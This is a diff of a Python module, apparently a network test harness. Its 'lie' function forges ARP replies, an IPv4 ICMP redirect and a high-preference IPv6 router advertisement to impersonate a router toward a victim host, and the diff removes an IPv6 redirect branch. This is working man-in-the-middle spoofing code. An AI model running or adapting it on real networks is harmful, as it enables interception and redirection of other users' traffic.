@@ -356,9 +356,9 @@ def icmpv6(source, destination, message):
 
 
 def lie(device, router, victim):
-    """Says all that a neighbour may say of the way to places, as if it were the router: redirects, ARP, NA; and as itself,
-    a better router: RA with a prefix, a route and high preference. `router` and `victim` are addresses of both families,
-    with the router's link-local one."""
+    """Says all that a neighbour may say of the way to places, as if it were the router: an IPv4 redirect, ARP, NA; and as
+    itself, a better router: RA with a prefix, a route and high preference. `router` and `victim` are addresses of both
+    families."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         mac = fcntl.ioctl(s, SIOCGIFHWADDR, struct.pack("40s", device.encode()))[18:24]
     v6 = lambda address: socket.inet_pton(socket.AF_INET6, address)
@@ -366,7 +366,7 @@ def lie(device, router, victim):
     link.bind((device, 0))
     everybody, all_nodes = b"\xff" * 6, b"\x33\x33\0\0\0\1"
 
-    own_link_local = advertise(device, prefix="2001:db8:bad::", route="2001:db8::", preference=8)
+    advertise(device, prefix="2001:db8:bad::", route="2001:db8::", preference=8)
     gateway, host = socket.inet_aton(router["ipv4"]), socket.inet_aton(victim["ipv4"])
     for operation in 1, 2:
         arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + gateway + everybody + gateway
@@ -380,19 +380,10 @@ def lie(device, router, victim):
     redirect = redirect[:2] + struct.pack("!H", checksum(redirect)) + redirect[4:]
     head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(redirect), 1, 0, 64, 1, 0)
     raw.sendto(head + gateway + host + redirect, (victim["ipv4"], 0))
-    about = packet(victim["ipv6"], "2001:db8::2", 9000, b"redirected")
-    redirect = struct.pack("!BBHI", 137, 0, 0, 0) + v6(own_link_local) + v6("2001:db8::2")
-    redirect += struct.pack("!BBHI", 4, (8 + len(about) + 7) // 8, 0, 0) + about
-    redirect += b"\0" * (-len(redirect) % 8)
-    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    raw.sendto(icmpv6(router["link"], victim["ipv6"], redirect), (victim["ipv6"], 0))
 
 
 def advertise(device, prefix=None, route=None, preference=0):
-    """Sends a router advertisement from the link-local address of a device, and returns that."""
-    with open("/proc/thread-self/net/if_inet6") as file:
-        digits = next(line.split()[0] for line in file if line.split()[5] == device and line.startswith("fe80"))
-    own = socket.inet_ntop(socket.AF_INET6, bytes.fromhex(digits))
+    """Sends a router advertisement from the link-local address of a device."""
     v6 = lambda address: socket.inet_pton(socket.AF_INET6, address)
     message = struct.pack("!BBHBBHII", 134, 0, 0, 64, preference, 1800, 0, 0)
     if prefix:
@@ -403,7 +394,6 @@ def advertise(device, prefix=None, route=None, preference=0):
     s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device.encode())
     s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
     s.sendto(message, ("ff02::1", 0, 0, socket.if_nametoindex(device)))
-    return own
 
 
 def software_checksums(device):
